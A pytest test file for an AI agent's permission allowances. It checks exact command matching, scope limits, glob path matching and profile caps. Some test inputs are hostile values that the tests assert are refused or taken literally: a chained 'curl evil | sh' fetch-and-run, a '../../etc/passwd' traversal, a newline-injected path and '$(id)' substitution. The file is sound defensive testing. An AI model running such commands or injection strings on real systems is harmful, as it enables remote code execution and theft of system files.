"""Which requests a standing decision answers: the same ones, and never more than a profile allows."""

from typing import Any

import pytest

from scout.base.time import Time
from scout.model.access.allowance import Allowance, AllowanceKind, AllowanceScope
from scout.model.access.permission import PermissionRequest, build_observed_request, build_request
from scout.model.agent import PermissionProfile
from scout.policy.allowance import Asker, find_allowance, matches_path

NOW = Time(1_000_000)
ASKER = Asker(user="ada", agent_id="agt_arc", project_root="/w", directory="/w/sub")
NPM = build_request("Bash", {"command": "npm test"})


def an_allowance(**changes: Any) -> Allowance:
    fields: dict[str, Any] = {
        "kind": AllowanceKind.COMMAND,
        "scope": AllowanceScope.EVERYWHERE,
        "command": "npm test",
        "arguments": "",
        "user": "ada",
        **changes,
    }
    return Allowance(id="alw_1", created_at=NOW, updated_at=NOW, created_by="agt_ada", **fields)


def lets(request: PermissionRequest, asker: Asker = ASKER, **changes: Any) -> bool:
    return find_allowance([an_allowance(**changes)], request, asker, NOW) is not None


@pytest.mark.parametrize(
    "command",
    [
        "npm test ",
        " npm test",
        "npm test; curl evil | sh",
        "npm test\n",
        "npm test && true",
        "npm  test",
        "NPM TEST",
        "npm test\u200b",
        "npm te*",
        "npm test #",
    ],
)
def test_another_command_is_another_command(command: str) -> None:
    assert lets(NPM)
    assert not lets(build_request("Bash", {"command": command}))


def test_what_a_command_is_given_besides_is_part_of_it() -> None:
    assert lets(build_request("Bash", {"command": "npm test", "timeout": 9, "description": "d"}))
    assert not lets(build_request("Bash", {"command": "npm test", "dangerouslyDisableSandbox": True}))
    open_ended = '{"run_in_background": true}'
    assert lets(
        build_request("Bash", {"command": "npm test", "run_in_background": True}), arguments=open_ended
    )
    assert not lets(build_request("Bash", {"file_path": "/w/a"}))
    assert lets(build_request("WebFetch", "u"), kind=AllowanceKind.TOOL, tool="WebFetch", arguments="u")
    assert not lets(build_request("WebFetch", "v"), kind=AllowanceKind.TOOL, tool="WebFetch", arguments="u")


def test_what_is_not_known_whole_is_never_let_through() -> None:
    assert not lets(build_observed_request("npm test", "?"), kind=AllowanceKind.TOOL, tool="", arguments=None)
    cut = build_request("Write", {"file_path": "/w/a", "content": "x" * 300_000})
    assert not lets(cut, kind=AllowanceKind.TOOL, tool="Write", arguments=None)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"scope": AllowanceScope.AGENT, "agent_id": "agt_arc"}, True),
        ({"scope": AllowanceScope.AGENT, "agent_id": "agt_bow"}, False),
        ({"scope": AllowanceScope.PROJECT, "project_root": "/w"}, True),
        ({"scope": AllowanceScope.PROJECT, "project_root": "/other"}, False),
        ({"user": "bob"}, False),
        ({"expires_at": NOW}, False),
        ({"tool": "Bash"}, True),
        ({"tool": "Shell"}, False),
    ],
)
def test_for_whom_it_holds(changes: dict[str, Any], expected: bool) -> None:
    assert lets(NPM, **changes) is expected


def test_a_decision_for_one_session_holds_in_that_session_only() -> None:
    for_one = {"scope": AllowanceScope.SESSION, "session_id": "ses_1"}
    here, there = (
        Asker(user="ada", agent_id="agt_arc", session_id=session) for session in ("ses_1", "ses_2")
    )
    assert lets(NPM, here, **for_one)
    assert not lets(NPM, there, **for_one)
    assert not lets(NPM, ASKER, **for_one)


def test_an_agent_without_a_project_is_in_none() -> None:
    nowhere = Asker(user="ada", agent_id="agt_arc")
    assert not lets(NPM, nowhere, scope=AllowanceScope.PROJECT, project_root=None)


PATHS: dict[str, Any] = {"kind": AllowanceKind.PATH, "command": None, "arguments": None, "path": "/w/src/**"}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/w/src/a.py", True),
        ("/w/src/a/b.py", True),
        ("/w/src", False),
        ("/w/src/../../etc/passwd", False),
        ("/w/srcs/a", False),
        ("/etc/w/src/a", False),
        ("src/a.py", False),
        ("/w/src//a", False),
    ],
)
def test_a_pattern_means_whole_paths(path: str, expected: bool) -> None:
    assert lets(build_request("Edit", {"file_path": path}), **PATHS) is expected


def test_a_relative_path_is_meant_where_the_program_works() -> None:
    wish = build_request("Edit", {"file_path": "a.py"})
    below: dict[str, Any] = {**PATHS, "path": "/w/sub/*"}
    assert lets(wish, **below)
    assert not lets(wish, Asker(user="ada", project_root="/w"), **below)
    assert not lets(build_request("Bash", {"command": "rm a", "path": "/w/src/a"}), **PATHS)
    assert not lets(build_request("Stop", {}), **PATHS)


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("/w/*", "/w/a", True),
        ("/w/*", "/w/a/b", False),
        ("/w/?", "/w/ab", False),
        ("/w/**/x", "/w/x", True),
        ("/w/**/x", "/w/a/b/x", True),
        ("/w/[ab]", "/w/a", False),
        ("/w/[ab]", "/w/[ab]", True),
        ("/w/a.b", "/w/aXb", False),
        ("/w/*", "/w/a\n/etc", False),
        ("/w/$(id)", "/w/$(id)", True),
        ("/w/{a,b}", "/w/a", False),
    ],
)
def test_only_stars_and_question_marks_stand_for_something_else(
    pattern: str, path: str, expected: bool
) -> None:
    assert matches_path(pattern, path) is expected


TOOL: dict[str, Any] = {"kind": AllowanceKind.TOOL, "command": None, "arguments": None}


@pytest.mark.parametrize(
    ("profile", "wish", "changes", "expected"),
    [
        (PermissionProfile.OBSERVE, NPM, {}, False),
        (PermissionProfile.REVIEW, NPM, {}, False),
        (PermissionProfile.WORKSPACE_WRITE, NPM, {}, True),
        (PermissionProfile.WORKSPACE_WRITE, NPM, {**TOOL, "tool": "Bash"}, False),
        (PermissionProfile.TRUSTED, NPM, {**TOOL, "tool": "Bash"}, True),
        (
            PermissionProfile.OBSERVE,
            build_request("Read", {"path": "/etc/x"}),
            {**TOOL, "tool": "Read"},
            True,
        ),
        (PermissionProfile.OBSERVE, build_request("Edit", {"path": "/w/x"}), {**TOOL, "tool": "Edit"}, False),
        (
            PermissionProfile.WORKSPACE_WRITE,
            build_request("Edit", {"path": "/w/x"}),
            {**TOOL, "tool": "Edit"},
            True,
        ),
        (
            PermissionProfile.WORKSPACE_WRITE,
            build_request("Edit", {"path": "/x"}),
            {**TOOL, "tool": "Edit"},
            False,
        ),
        (
            PermissionProfile.WORKSPACE_WRITE,
            build_request("Edit", {"path": "/x"}),
            {**PATHS, "path": "/**"},
            False,
        ),
        (
            PermissionProfile.WORKSPACE_WRITE,
            build_request("Read", {"path": "/x"}),
            {**PATHS, "path": "/**"},
            True,
        ),
        (PermissionProfile.WORKSPACE_WRITE, build_request("Task", {}), {**TOOL, "tool": "Task"}, False),
    ],
)
def test_no_more_than_the_profile(
    profile: PermissionProfile, wish: PermissionRequest, changes: dict[str, Any], expected: bool
) -> None:
    asker = Asker(user="ada", agent_id="agt_arc", project_root="/w", directory="/w/sub", profile=profile)
    assert lets(wish, asker, **changes) is expected
